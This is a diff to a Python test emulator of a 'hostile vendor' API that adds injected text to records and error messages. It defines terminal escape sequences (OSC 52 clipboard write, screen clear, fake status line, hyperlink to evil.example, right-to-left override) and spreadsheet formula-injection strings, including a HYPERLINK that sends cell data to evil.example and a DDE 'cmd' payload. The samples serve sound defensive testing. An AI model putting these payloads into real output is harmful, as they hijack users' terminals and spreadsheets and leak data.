@@ -15,6 +15,10 @@ r"""A hostile vendor: any vendor's emulator, with its answers spoiled the way re
   ``secrets`` given) written back in every escaped form of :func:`escaped_forms`, in an error body
   with a given status, in a response header, or inside 200 data (the records' region-like fields and
   the purchase answers' text fields);
+- vendor text that is control or formula: ``inject`` written at the start of the records' region-like
+  text fields, of their ids (``inject_ids``) and of an error answer's messages (an OSC 52 clipboard
+  write, a clear-screen, ``\r`` and erase-line, ``=HYPERLINK(…)``: see :data:`TERMINAL_ATTACKS` and
+  :data:`FORMULAS`);
 - a junk page: the records' list replaced by ``junk_bytes`` of ``1,1,1,…`` or ``{},{},…`` (a vendor whose
   page is millions of items no record could be made of).
 
@@ -52,7 +56,9 @@ if TYPE_CHECKING:
 __all__ = [
     "ESCAPINGS",
     "HUGE_EXPONENT",
+    "FORMULAS",
     "HUGE_TOTAL",
+    "TERMINAL_ATTACKS",
     "TINY_EXPONENT",
     "Defects",
     "HostileVendor",
@@ -66,6 +72,17 @@ TINY_EXPONENT: Final = "1e-999999999"
 """A 13-byte price whose exact decimal expansion has a billion digits."""
 HUGE_TOTAL: Final = "1" + "0" * 400
 """A page total of 10^400."""
+TERMINAL_ATTACKS: Final = (
+    "\x1b]52;c;ZWNobyBvd25lZA==\x07",  # OSC 52: write the clipboard
+    "\x1b[2J\x1b[H",  # clear the screen
+    "\x1b]0;fake title\x07",  # set the window title
+    "\r\x1b[2Kvobiz: ok (10 offers)",  # overwrite the line with a fake one
+    "\x9b31m\x9d8;;http://evil.example\x9c",  # C1 CSI and OSC (a hyperlink)
+    "\x08\x08\x7f\u202etxt.exe",  # backspaces, DEL, a right-to-left override
+)
+"""Vendor text that drives a terminal if written raw."""
+FORMULAS: Final = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
+"""Vendor text a spreadsheet evaluates if a CSV cell begins with it."""
 
 Escaping = Literal[
     "raw",
@@ -119,6 +136,7 @@ _TOTAL_KEYS = frozenset({"total", "total_count", "totalCount", "count", "total_i
 _PAGE_SIZE_PARAMS = ("per_page", "limit", "page_size", "pageSize", "size")
 _TEXT_KEY = re.compile(r"region|city|locality|state|province|rate_center|alias|message|description", re.I)
 _AUTH_HEADER = re.compile(r"authorization|auth|token|key|secret|signature", re.IGNORECASE)
+_ID_KEY = re.compile(r"^id$|_id$|[a-z]Id$")
 _NUMERIC = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
 
 
@@ -186,6 +204,9 @@ class Defects:
         junk: replace every page's records with ``junk_bytes`` of ``1`` items (``"ones"``) or ``{}`` items
             (``"objects"``).
         junk_bytes: about how many bytes of junk items a page holds.
+        inject: text written at the start of every record's region-like fields and of an error answer's
+            messages (``echo_status``).
+        inject_ids: write ``inject`` at the start of every record's id fields (``id``, ``*_id``, ``*Id``) too.
     """
 
     price: str | None = None
@@ -203,6 +224,8 @@ class Defects:
     reencode: bool = False
     junk: Literal["ones", "objects"] | None = None
     junk_bytes: int = 1024 * 1024
+    inject: str | None = None
+    inject_ids: bool = False
 
     def __post_init__(self) -> None:
         if self.page_size is not None and self.page_size < 1:
@@ -226,6 +249,7 @@ class Defects:
             or self.echo_in_data
             or self.reencode
             or self.junk
+            or self.inject
         )
 
 
@@ -425,6 +449,8 @@ class HostileVendor:
 
     def _echo_body(self, secrets: Sequence[str]) -> bytes:
         echo = self._echo_strings(secrets)
+        if self.defects.inject is not None:
+            echo = _Raw(json.dumps(self.defects.inject, ensure_ascii=False)[1:-1] + echo.text, string=True)
         envelope = {
             "status": "error",
             "error": {"code": "ECHO", "message": echo},
@@ -464,6 +490,15 @@ class HostileVendor:
                 value = _number_text(value, defects.exponent)
             elif defects.echo_in_data and isinstance(value, str) and _TEXT_KEY.search(key):
                 value = _Raw(json.dumps(value, ensure_ascii=False)[1:-1] + " " + self._echo_strings(secrets).text, True)
+            if defects.inject is not None and isinstance(value, str) and _TEXT_KEY.search(key):
+                value = defects.inject + value
+            elif (
+                defects.inject is not None
+                and defects.inject_ids
+                and isinstance(value, str | int)
+                and _ID_KEY.search(key)
+            ):
+                value = f"{defects.inject}{value}"
             out[key] = value
         if not defects.duplicate_keys:
             return out
